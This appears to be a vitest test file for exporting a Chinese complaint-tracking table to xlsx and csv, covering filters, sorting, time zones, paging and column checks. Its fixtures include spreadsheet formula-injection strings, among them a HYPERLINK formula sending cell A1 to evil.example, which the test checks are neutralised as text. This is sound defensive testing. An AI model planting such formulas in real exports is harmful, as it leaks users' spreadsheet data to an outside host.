import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { exportTrackingTable } from '../../src/main/services/tracking-export';
import type { MethodInput } from '../../src/shared/contract';
import { trackingExportSchema } from '../../src/shared/schemas/data-io';
import type { ComplaintDetail, ComplaintRow } from '../../src/shared/types';
import { complaintInput, openTestApp, type TestApp } from './helpers';
import { parseCsv } from './tracking-export-csv';

/**
 * The export of the tracking table (issue 8) writes what the grid shows: every file is compared with
 * the rows `complaints.page` answers for the same view, filters, quick search and sort, in the
 * columns asked for, in their order. The files are read back as a person's spreadsheet would read
 * them: the xlsx with exceljs, the csv with an RFC 4180 parser written here.
 */

const NOW = new Date('2026-11-25T04:00:00Z');
type ExportInput = MethodInput<'complaints.export'>;
type Column = ExportInput['columns'][number];

let app: TestApp;
let hostile: ComplaintDetail;
let quoted: ComplaintDetail;

const SEVERITY = { minor: '轻微', normal: '一般', major: '严重', safety: '安全' };

beforeAll(async () => {
  app = await openTestApp({ scope: 'file', clock: () => NOW });
  await app.call('app.loadDemo', { complaints: 1200 });
  hostile = await app.call('complaints.create', {
    ...complaintInput({ severity: 'safety', receivedAt: '2026-11-10T15:59:00Z' }),
    newCustomer: { name: '=HYPERLINK("http://evil.example/?x="&A1,"点我")' },
    serialNo: '+SUM(1,2)',
    description: '-2+3 @cmd 漏油严重',
  });
  quoted = await app.call('complaints.create', {
    ...complaintInput({ severity: 'safety', receivedAt: '2026-11-10T16:00:00Z' }),
    newCustomer: { name: '无锡"精工",有限公司' },
    serialNo: 'TAB-1',
    description: '第一行，含逗号, "引号"\n第二行 漏油',
  });
  // The rule engine's columns, as the scheduler's first pass fills them.
  await app.scheduler.runOnce();
}, 120_000);

/** Every row of a query, through the grid's own method in blocks of 500. */
async function gridRows(q: Pick<ExportInput, 'filterModel' | 'quickSearch' | 'view' | 'sortModel'>): Promise<ComplaintRow[]> {
  const out: ComplaintRow[] = [];
  for (let start = 0; ; start += 500) {
    const page = await app.call('complaints.page', { ...q, startRow: start, endRow: start + 500 });
    out.push(...page.rows);
    if (page.lastRow !== null) return out;
  }
}

async function readXlsx(base64: string) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(base64, 'base64') as unknown as ArrayBuffer);
  const ws = wb.worksheets[0]!;
  const rows: unknown[][] = [];
  ws.eachRow({ includeEmpty: true }, (row) => {
    rows.push(Array.from({ length: ws.columnCount }, (_, i) => row.getCell(i + 1).value));
  });
  return { wb, ws, rows };
}

/** Office wall clock of an instant, as the table and the file show it. */
function shanghai(iso: string): string {
  const p = Object.fromEntries(
    new Intl.DateTimeFormat('en-US', { timeZone: 'Asia/Shanghai', hourCycle: 'h23', year: 'numeric', month: '2-digit', day: '2-digit', hour: '2-digit', minute: '2-digit' })
      .formatToParts(new Date(iso))
      .map((x) => [x.type, x.value]),
  );
  return `${p.year}-${p.month}-${p.day} ${p.hour}:${p.minute}`;
}

const col = (colId: Column['colId'], header: string, width?: number): Column => ({ colId, header, ...(width ? { width } : {}) });

describe('complaints.export', { timeout: 60_000 }, () => {
  it('writes the filtered, sorted rows in the chosen columns and order to an xlsx Excel opens', async () => {
    const query = {
      view: 'all' as const,
      filterModel: { severity: { filterType: 'set' as const, values: ['major', 'safety'] } },
      quickSearch: '',
      sortModel: [
        { colId: 'customerName' as const, sort: 'asc' as const },
        { colId: 'receivedAt' as const, sort: 'desc' as const },
      ],
    };
    const expected = await gridRows(query);
    expect(expected.length).toBeGreaterThan(100);
    const columns = [
      col('trackingNo', '跟踪编号', 150),
      col('severity', '严重程度'),
      col('customerName', '客户名称', 280),
      col('receivedAt', '接收时间'),
      col('deliveryDate', '交货日期'),
      col('age', '天数'),
    ];
    const out = await app.call('complaints.export', { ...query, format: 'xlsx', columns, labels: { severity: SEVERITY }, lang: 'zh-CN' });
    expect(out.fileName).toBe('客户投诉跟踪表-2026-11-25.xlsx');
    expect(out.rows).toBe(expected.length);

    const { ws, rows } = await readXlsx(out.data);
    expect(ws.name).toBe('客户投诉跟踪表');
    expect(rows[0]).toEqual(['跟踪编号', '严重程度', '客户名称', '接收时间', '交货日期', '天数']);
    expect(ws.getRow(1).font?.bold).toBe(true);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.getColumn(3).width).toBe(40);
    const body = rows.slice(1);
    expect(body).toHaveLength(expected.length);
    expect(body.map((r) => r[0])).toEqual(expected.map((r) => r.trackingNo));
    expect(new Set(body.map((r) => r[1]))).toEqual(new Set(['严重', '安全']));
    const i = expected.findIndex((r) => r.id === quoted.id);
    expect(body[i]![2]).toBe('无锡"精工",有限公司');
    // Dates are real Excel dates: the office wall clock, formatted as the table shows it.
    for (const [k, r] of expected.entries()) {
      const at = body[k]![3] as Date;
      expect(at).toBeInstanceOf(Date);
      expect(at.toISOString().slice(0, 16).replace('T', ' ')).toBe(shanghai(r.receivedAt));
      const delivery = body[k]![4] as Date | null;
      if (r.deliveryDate) expect(delivery!.toISOString().slice(0, 10)).toBe(r.deliveryDate);
      else expect(delivery).toBeNull();
    }
    expect(ws.getRow(2).getCell(4).numFmt).toBe('yyyy-mm-dd hh:mm');
    expect(ws.getRow(2).getCell(5).numFmt).toBe('yyyy-mm-dd');
    // Age: whole days in the office's calendar. 2026-11-10T15:59Z is the 10th in Shanghai, 16:00Z the 11th.
    expect(body[expected.findIndex((r) => r.id === hostile.id)]![5]).toBe(15);
    expect(body[i]![5]).toBe(14);
  });

  it('follows the quick search, the saved view and a date filter, to a csv with BOM that keeps Chinese', async () => {
    const query = {
      view: 'open' as const,
      filterModel: { receivedAt: { filterType: 'date' as const, type: 'inRange' as const, dateFrom: '2026-01-01 00:00:00', dateTo: '2026-11-30 00:00:00' } },
      quickSearch: '漏油',
      sortModel: [{ colId: 'trackingNo' as const, sort: 'desc' as const }],
    };
    const expected = await gridRows(query);
    expect(expected.length).toBeGreaterThan(2);
    // The view and the date filter each leave cases out.
    const wider = await app.call('complaints.count', { filterModel: {}, quickSearch: '漏油', view: 'all' });
    expect(expected.length).toBeLessThan(wider.count);
    expect(expected.every((r) => r.state !== 'closed' && r.state !== 'rejected')).toBe(true);
    const states = Object.fromEntries(expected.map((r) => [r.state, `状态:${r.state}`]));
    const out = await app.call('complaints.export', {
      ...query,
      format: 'csv',
      columns: [col('description', '问题描述'), col('trackingNo', '跟踪编号'), col('state', '状态'), col('nextStep', '下一步'), col('ownerName', '负责人')],
      labels: { state: states, nextStep: { registered: '待销售经理受理' } },
      lang: 'zh-CN',
    });
    expect(out.fileName).toBe('客户投诉跟踪表-2026-11-25.csv');
    const bytes = Buffer.from(out.data, 'base64');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records = parseCsv(bytes.subarray(3).toString('utf8'));
    expect(records[0]).toEqual(['问题描述', '跟踪编号', '状态', '下一步', '负责人']);
    const body = records.slice(1);
    expect(body.map((r) => r[1])).toEqual(expected.map((r) => r.trackingNo));
    expect(body.every((r) => r[0]!.includes('漏油'))).toBe(true);
    expect(body.map((r) => r[2])).toEqual(expected.map((r) => `状态:${r.state}`));
    expect(body.map((r) => r[3])).toEqual(expected.map((r) => (r.state === 'registered' ? '待销售经理受理' : '')));
    expect(body.map((r) => r[4])).toEqual(expected.map((r) => r.ownerName ?? ''));
    // A description with a comma, quotes and a line break comes back whole.
    expect(body.find((r) => r[1] === quoted.trackingNo)![0]).toBe('第一行，含逗号, "引号"\n第二行 漏油');
  });

  it('neutralises formula injection in csv and xlsx text cells', async () => {
    const query = { filterModel: {}, quickSearch: '', view: 'all' as const, sortModel: [{ colId: 'receivedAt' as const, sort: 'asc' as const }] };
    const columns = [col('trackingNo', 'No.'), col('customerName', 'Customer'), col('serialNo', 'Serial no.'), col('description', 'Description')];
    const filter = { trackingNo: { filterType: 'text' as const, operator: 'OR' as const, conditions: [hostile, quoted].map((c) => ({ filterType: 'text' as const, type: 'equals' as const, filter: c.trackingNo })) } };
    const csv = await app.call('complaints.export', { ...query, filterModel: filter, format: 'csv', columns, lang: 'en' });
    expect(csv.fileName).toBe('complaints-2026-11-25.csv');
    const records = parseCsv(Buffer.from(csv.data, 'base64').subarray(3).toString('utf8'));
    const want = [
      [hostile.trackingNo, `'=HYPERLINK("http://evil.example/?x="&A1,"点我")`, "'+SUM(1,2)", "'-2+3 @cmd 漏油严重"],
      [quoted.trackingNo, '无锡"精工",有限公司', 'TAB-1', '第一行，含逗号, "引号"\n第二行 漏油'],
    ];
    expect(records.slice(1)).toEqual(want);
    const xlsx = await app.call('complaints.export', { ...query, filterModel: filter, format: 'xlsx', columns, lang: 'en' });
    const { ws, rows } = await readXlsx(xlsx.data);
    expect(ws.name).toBe('Complaints');
    expect(rows.slice(1)).toEqual(want);
    // Stored as text, never as a formula.
    for (let c = 1; c <= 4; c++) expect(ws.getRow(2).getCell(c).type).toBe(ExcelJS.ValueType.String);
  });

  it('reads every row once across pages, even when a case is registered while it runs', async () => {
    const input = trackingExportSchema.parse({ format: 'csv', columns: [col('trackingNo', 'No.')], view: 'all' });
    const before = await gridRows(input);
    const who = { userId: 1, now: NOW, timeZone: 'Asia/Shanghai' };
    let registered: ComplaintDetail | null = null;
    let pages = 0;
    let ticks = 0;
    const timer = setInterval(() => ticks++, 0);
    const out = await exportTrackingTable(app.store.db, input, who, {
      pageSize: 97,
      onProgress: async () => {
        // Received now: the newest case, so every later page (received date descending) shifts by one row.
        if (++pages === 2) registered = await app.call('complaints.create', complaintInput({ receivedAt: NOW.toISOString() }));
      },
    });
    clearInterval(timer);
    expect(registered).not.toBeNull();
    const numbers = parseCsv(out.data.subarray(3).toString('utf8')).slice(1).map((r) => r[0]);
    expect(numbers).toEqual(before.map((r) => r.trackingNo));
    expect(out.rows).toBe(before.length);
    expect(pages).toBe(Math.ceil(before.length / 97));
    // The loop let timers run between its pages: the window's other calls are not held up.
    expect(ticks).toBeGreaterThan(pages / 2);
  });

  it('uses the office time zone for dates, age and the file name', async () => {
    const tz = await openTestApp({ clock: () => new Date('2026-11-25T20:00:00Z') });
    await tz.call('settings.update', { officeTimeZone: 'America/New_York' });
    const c = await tz.call('complaints.create', complaintInput({ receivedAt: '2026-11-10T03:30:00Z' }));
    const out = await tz.call('complaints.export', {
      format: 'csv',
      columns: [col('trackingNo', 'No.'), col('receivedAt', 'Received'), col('age', 'Age (days)')],
      lang: 'en',
    });
    // 20:00Z on the 25th is still the 25th in New York (15:00); 03:30Z on the 10th is 22:30 on the 9th.
    expect(out.fileName).toBe('complaints-2026-11-25.csv');
    const records = parseCsv(Buffer.from(out.data, 'base64').subarray(3).toString('utf8'));
    expect(records).toEqual([
      ['No.', 'Received', 'Age (days)'],
      [c.trackingNo, '2026-11-09 22:30', '16'],
    ]);
  });

  it('refuses columns it does not know or names twice', async () => {
    const base = { format: 'xlsx', filterModel: {}, quickSearch: '' };
    const unknown = await app.fail('complaints.export', { ...base, columns: [{ colId: 'contactPhone', header: 'Phone' }] });
    expect(unknown.code).toBe('VALIDATION');
    const twice = await app.fail('complaints.export', { ...base, columns: [col('trackingNo', 'a'), col('trackingNo', 'b')] });
    expect(twice.issues?.[0]?.code).toBe('export_duplicate_column');
    const none = await app.fail('complaints.export', { ...base, columns: [] });
    expect(none.code).toBe('VALIDATION');
  });
});
